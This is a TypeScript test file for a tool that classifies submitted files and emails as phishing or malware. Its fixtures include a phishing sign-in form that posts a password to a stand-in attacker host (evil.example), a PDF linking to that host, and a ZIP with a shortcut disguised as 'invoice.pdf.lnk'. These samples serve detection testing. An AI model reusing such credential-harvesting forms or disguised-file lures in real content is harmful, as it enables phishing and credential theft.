/** What people hand in where a mail is expected: the file that came with it, or a picture of their screen. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { writeBarcode } from '../barcode.ts';
import { harmlessProgram, makePdf, makeZip } from '../unpack/containers.ts';
import { examined } from './examining.ts';

const goal = 'https://evil.example/login?a=1';

const leading = makePdf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${goal}) >> >>] >>`,
]);

async function pictureOf(text: string): Promise<Buffer> {
  const { image } = await writeBarcode(text, { format: 'QRCode', scale: 4 });
  assert.ok(image !== null);
  return Buffer.from(await image.arrayBuffer());
}

test('a picture is one attachment of its name, whose code is read; of its pixels no letter is made', async () => {
  const bytes = await pictureOf(goal);
  const { facts, defects, verdict } = await examined(bytes, { source: 'C:\\mail\\画面.png' });
  const [file, ...others] = facts.attachments;
  assert.deepEqual(others, []);
  assert.deepEqual(
    { name: file?.value.name, type: file?.value.type, bytes: file?.value.bytes, proof: file?.proof },
    { name: '画面.png', type: 'image/png', bytes: bytes.length, proof: [{ at: [0, bytes.length] }] },
  );
  assert.deepEqual(
    facts.links.map(({ value }) => value.url),
    [goal],
  );
  assert.equal(facts.text, undefined);
  assert.deepEqual(defects, []);
  assert.match(verdict.summary.ja, /メールではなく、ファイルだけ/);
  assert.match(verdict.advice.map(({ en }) => en).join(' '), /a picture of the screen has none/);
});

test('what a document leads to is found, and it is not called a letter', async () => {
  const { facts, verdict } = await examined(leading, { source: 'invoice.pdf' });
  assert.deepEqual(
    facts.links.map(({ value }) => value.url),
    [goal],
  );
  assert.notEqual(verdict.kind, 'legitimate');
  assert.deepEqual(verdict.sender, []);
});

test('a program that somebody hands in is no malware for being one; by mail, or in a document, it is odd', async () => {
  const packed = makeZip([{ name: 'setup.exe', data: harmlessProgram }]);
  for (const [source, bytes] of [
    ['setup.exe', harmlessProgram],
    ['setup.zip', packed],
  ] as const) {
    const { verdict, facts } = await examined(bytes, { source });
    assert.equal(facts.attachments[0]?.value.name, source);
    assert.equal(verdict.kind, 'undecided', source);
    assert.match(verdict.advice[0]?.en ?? '', /a virus scanner/, source);
  }
  const mail = Buffer.concat([
    Buffer.from(
      'From: a@example.com\r\nTo: b@example.org\r\nSubject: hello\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=setup.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n',
    ),
    Buffer.from(harmlessProgram.toString('base64')),
  ]);
  assert.equal((await examined(mail)).verdict.kind, 'malware');
});

test('a harmful file is called a file, and its reader is told how to hand in the mail', async () => {
  const page = '<form action="https://evil.example/p"><input type="password" name="p"></form>';
  const zip = makeZip([
    { name: 'invoice.pdf.lnk', data: Buffer.from('4c0000000114020000000000c000000000000046', 'hex') },
    { name: 'sign-in.html', data: page },
  ]);
  const { verdict } = await examined(zip, { source: 'scan.zip' });
  assert.equal(verdict.kind, 'malware');
  assert.match(verdict.summary.en, /^This file /);
  assert.match(verdict.advice.at(-1)?.en ?? '', /save the whole source of that mail/);
});

test('a mail whose letter begins as a file does is read as a mail', async () => {
  for (const begin of ['%PDF: x', 'GIF89a: is a format', 'MZ: x', 'Received: from PK']) {
    const { facts } = await examined(Buffer.from(`${begin}\r\nFrom: a@example.com\r\nSubject: hi\r\n\r\nhello\r\n`));
    assert.equal(facts.subject?.value, 'hi', begin);
  }
});

test('any bytes behind the beginning of a file give a result whose ranges lie in it', async () => {
  const heads = [
    '\x89PNG\r\n\x1a\n',
    '\xff\xd8\xff\xe0',
    'GIF89a\0\0',
    '%PDF-1.7',
    'PK\x03\x04\0',
    '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    'MZ\0\0\0',
    '\x78\x9f\x3e\x22',
    '7z\xbc\xaf\x27\x1c',
    '{\\rtf1',
  ];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...heads), fc.uint8Array({ maxLength: 400 }), async (head, rest) => {
      const bytes = Buffer.concat([Buffer.from(head, 'latin1'), rest]);
      const { facts, verdict } = await examined(bytes, { source: 'x' });
      for (const { proof } of facts.attachments)
        for (const one of proof) assert.ok(!('at' in one) || (one.at[0] >= 0 && one.at[1] <= bytes.length));
      assert.notEqual(verdict.kind, 'legitimate');
    }),
    { numRuns: 150, seed: 3 },
  );
});
